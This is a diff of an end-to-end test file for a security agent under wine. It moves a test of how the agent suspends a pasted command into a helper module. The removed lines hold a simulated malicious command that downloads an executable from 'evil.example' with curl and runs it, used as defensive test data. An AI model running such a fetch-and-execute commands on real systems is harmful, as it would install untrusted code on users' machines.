@@ -1,5 +1,5 @@
 import { existsSync } from 'node:fs';
-import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
+import { readdir, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { upstreamForTest } from '@porchlight/agent/testing/dns.ts';
 import { inDatabase } from '@porchlight/e2e/lib/database.ts';
@@ -13,6 +13,7 @@ import { expectStartsAllowed } from './denied-starts.ts';
 import { isOnline, isRoot } from './here.ts';
 import { measureLifetimes, tooLong } from './measure.ts';
 import { pinIsEnough } from './page.ts';
+import { pastedCommandWaits } from './pasted-command.ts';
 import { type Scene, startScene, takeDnsPort } from './scene.ts';
 import { denied, installedTool, policyTable, program, runOfPerson, servicesAt, tool, toolAt, withService } from './tools.ts';
 import { type UninstallArgs, uninstallWith } from './uninstall.ts';
@@ -126,21 +127,7 @@ describe.skipIf(missingProgram !== null)('the agent on Windows, in wine,', { tim
     expect(excessMs).toBeLessThanOrEqual(0);
   });
 
-  it('[P12.4] suspends a pasted command with what it started, and lets it go on after a guardian’s yes', async () => {
-    const { wine, onC, world, guardian, detections } = scene;
-    const command =
-      'ping -n 4 127.0.0.1 & curl -s -o C:\\pasted\\a.exe http://evil.example/a.exe & start C:\\pasted\\a.exe & echo ran > C:\\pasted\\ran.txt';
-    await mkdir(onC('pasted'), { recursive: true });
-    // The Run box starts what is typed from Explorer.
-    await buildSmall(join(onC('pasted'), 'explorer.exe'), [`ExecWait 'cmd.exe /c "${command}"'`]);
-    wine.start('C:\\pasted\\explorer.exe');
-    const detection = await until('the detection', async () => (await detections()).find(({ category }) => category === 'PastedCommand'));
-    expect(detection).toMatchObject({ blocked: true, details: 'evil.example' });
-    expect(await wine.running()).toContain('cmd.exe');
-    expect(existsSync(onC('pasted/ran.txt'))).toBe(false);
-    await sayYes(world, guardian);
-    await until('the command to go on', () => existsSync(onC('pasted/ran.txt')));
-  });
+  it('[P12.4] suspends a pasted command with what it started, and lets it go on after a guardian’s yes', () => pastedCommandWaits(scene));
 
   it('stops the service of a tool and disables it', async () => {
     const { wine, onC, registry, detections } = scene;
